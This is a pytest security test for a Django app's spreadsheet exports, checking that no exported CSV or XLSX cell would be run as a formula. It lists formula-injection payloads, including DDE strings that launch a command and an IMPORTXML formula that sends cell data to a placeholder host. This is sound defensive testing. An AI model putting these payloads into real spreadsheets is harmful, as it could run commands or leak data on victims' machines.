"""Proof S8: no cell of any table that leaves Upwell is run by a spreadsheet program.

The source is searched for callers of the writer, the resolver for views that answer with a table,
and every registered export is made of texts that mean harm. The reader shares no code with the
writer.
"""

import csv
import dataclasses
import io
from importlib import import_module
from uuid import uuid4

import pytest
from django.http import HttpResponse
from django.urls import NoReverseMatch, clear_url_caches, path, resolve, reverse
from hypothesis import given, settings
from hypothesis import strategies as st

import upwell.urls
from tests.security import spreadsheets
from tests.security.callers import SOURCE, callers, unregistered
from tests.security.poison import poison
from tests.security.world import make_world, routes
from upwell.cli.main import main
from upwell.core.access import EVERYBODY, READ, Entry, table
from upwell.core.downloads import table_file
from upwell.demo import generate, write_csv
from upwell.sheets.exports import EXPORTS
from upwell.sheets.write import write_table

DANGEROUS = [
    "=1+1",
    "=cmd|'/c calc'!A0",
    '+HYPERLINK("http://x")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    '"=1+1"',
    '";=1+1;"',
    "x;=1+1;y",
    "x\n=1+1",
    "x\t@SUM(1,1)",
    "x\r\n-1+1|",
    '=IMPORTXML(CONCAT("http://x/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
]


@pytest.fixture(scope="module", autouse=True)
def every_module():
    """Whatever is registered is registered when its module is loaded."""
    for file in SOURCE.rglob("*.py"):
        if "@export(" in file.read_text():
            parts = file.relative_to(SOURCE.parent).with_suffix("").parts
            import_module(".".join(parts).removesuffix(".__init__"))


# The exports that are no views: each made of texts that mean harm.


def poisoned_people(size=60):
    people = generate(size, seed=4)
    texts = [f"{DANGEROUS[row % len(DANGEROUS)]}{row} Fern" for row in range(len(people))]
    names = ("names", "emails", "titles", "units", "teams", "regions")
    return dataclasses.replace(people, **{name: tuple(texts) for name in names})


def pairs_in_the_terminal(folder, ending):
    people = poisoned_people(120)
    with (folder / "people.csv").open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file, quoting=csv.QUOTE_ALL)
        writer.writerow(["ID", "Name", "E-mail", "Level", "Department", "Office", "Manager ID"])
        for row, id_ in enumerate(people.ids):
            person = (people.names[row], people.emails[row], people.levels[row])
            place = (people.units[row], people.offices[row], people.managers[row])
            writer.writerow([id_, *person, *place])
    levels = "<".join(people.level_order)
    sides = ("--mentors", people.level_order[0], "--mentees", people.level_order[-3])
    written = folder / f"pairs.{ending}"
    words = ["match", str(folder / "people.csv"), "--levels", levels, *sides]
    assert main([*words, "--out", str(written)]) == 0
    return written.read_bytes()


def people_of_the_demo(folder, ending):
    write_csv(poisoned_people(), folder / f"people.{ending}")
    return (folder / f"people.{ending}").read_bytes()


DRIVERS = {
    "pairs, in the terminal": pairs_in_the_terminal,
    "people of the demo": people_of_the_demo,
}


def is_view(function):
    return getattr(function, "__module__", "").split(".")[2:3] == ["views"]


# The views: every route, for those who may open it.


def tables_of_views(world, client):
    """Each table that a route answered with: the route, whether it is registered, the content."""
    for persona in (one for one in world.personas if one.person and one.person.is_active):
        client.force_login(persona.person)
        for route, names in routes():
            for ending in ("csv", "xlsx"):
                response = answer(world, client, route, names, ending)
                if spreadsheets.is_spreadsheet(response):
                    view = resolve(response.wsgi_request.path).func
                    yield route, view in EXPORTS.values(), b"".join(response)


def answer(world, client, route, names, ending):
    ids = {name: model for entry in table().get(route, ()) for name, model in entry.ids.items()}
    values = {name: world.ids.get(ids[name], uuid4()) for name in names if name in ids}
    others = {name: ending if name in {"ending", "format"} else uuid4() for name in names}
    query = {"format": ending, "ending": ending, "as": ending}
    try:
        url = reverse(route, kwargs=others | values)
    except NoReverseMatch:
        return HttpResponse()
    return client.get(url, query)


def faults_of(found):
    """What is wrong with the tables: cells that would run, views that are not registered."""
    faults, cells = [], 0
    for name, is_registered, content in found:
        count, active = spreadsheets.read(content)
        cells += count
        faults += [f"{name}: {cell}" for cell in active]
        if not is_registered:
            faults.append(f"{name}: not registered")
        if not count:
            faults.append(f"{name}: empty")
    return faults, cells


@pytest.fixture
def world(db, run_jobs, settings, tmp_path):
    settings.IMPORTS_DIR = settings.DATA_DIR = tmp_path
    made = make_world(run_jobs)
    filled, _empty, _written = poison(DANGEROUS)
    assert len(filled) > 12
    return made


def test_no_cell_of_any_export_is_run(world, client, tmp_path, tell):
    views = {name: function for name, function in EXPORTS.items() if is_view(function)}
    assert set(EXPORTS) - set(views) == set(DRIVERS)

    written = [
        (name, True, driver(tmp_path, ending))
        for name, driver in DRIVERS.items()
        for ending in ("csv", "xlsx")
    ]
    answered = list(tables_of_views(world, client))

    faults, cells = faults_of([*written, *answered])
    tell(
        f"S8: {len(EXPORTS)} exports ({len(views)} of them views), {len(list(routes()))}"
        f" routes, {len(written) + len(answered)} tables, {cells} cells,"
        f" {len(faults)} that a spreadsheet would run or that nobody registered,"
        f" {len(callers())} unregistered callers"
    )
    assert faults == []
    assert callers() == []
    assert {function_of(route) for route, _known, _content in answered} >= set(views.values())
    assert cells > 1_000


def function_of(route):
    return next(
        (
            view
            for view in EXPORTS.values()
            if getattr(view, "__name__", "") == route.split(":")[-1]
        ),
        None,
    )


@settings(max_examples=300, deadline=None)
@given(
    rows=st.lists(
        st.lists(
            st.builds("{}{}{}".format, st.text(max_size=3), st.sampled_from(DANGEROUS), st.text()),
            min_size=1,
            max_size=3,
        ),
        min_size=1,
        max_size=3,
    ),
    ending=st.sampled_from(["csv", "xlsx"]),
)
def test_no_text_that_somebody_could_think_of_is_run(tmp_path_factory, rows, ending):
    written = tmp_path_factory.mktemp("sheets") / f"table.{ending}"

    write_table(written, {"Sheet": rows})

    assert spreadsheets.read(written.read_bytes())[1] == []


# The proof itself: an export without the guard is found.


def raw(rows):
    text = io.StringIO()
    csv.writer(text).writerows(rows)
    return text.getvalue().encode()


def unguarded(request):
    return HttpResponse(raw([DANGEROUS]), content_type="text/csv")


def guarded_but_unregistered(request):
    return table_file("x", {"Sheet": [DANGEROUS]}, "csv")


@pytest.mark.parametrize(
    ("view", "said"), [(unguarded, "=1+1"), (guarded_but_unregistered, "not registered")]
)
def test_the_proof_finds_a_view_added_beside_the_writer(world, client, view, said, monkeypatch):
    monkeypatch.setitem(table(), "x", (Entry("x", READ, (EVERYBODY,)),))
    upwell.urls.urlpatterns.insert(0, path("x.csv", view, name="x"))
    clear_url_caches()
    try:
        tables = tables_of_views(world, client)
        faults = (fault for one in tables for fault in faults_of([one])[0])
        is_found = any(fault.startswith("x:") and said in fault for fault in faults)
    finally:
        upwell.urls.urlpatterns.pop(0)
        clear_url_caches()

    assert is_found


def test_the_proof_finds_a_workbook_with_formulas():
    import xlsxwriter  # noqa: PLC0415 -- only here

    content = io.BytesIO()
    with xlsxwriter.Workbook(content) as book:
        book.add_worksheet().write(0, 0, "=1+1")

    assert len(spreadsheets.read(content.getvalue())[1]) == 1


@pytest.mark.parametrize(
    "code",
    [
        "def view(request):\n    return table_file('x', {}, 'csv')",
        "def view(request):\n    csv.writer(response).writerow([1])",
        "def view(request):\n    xlsxwriter.Workbook(path)",
    ],
)
def test_the_proof_finds_a_caller_that_nobody_registered(code):
    assert unregistered(code, "views.py") == ["views.py:2"]
    assert unregistered(f"@export('x')\n{code}", "views.py") == []
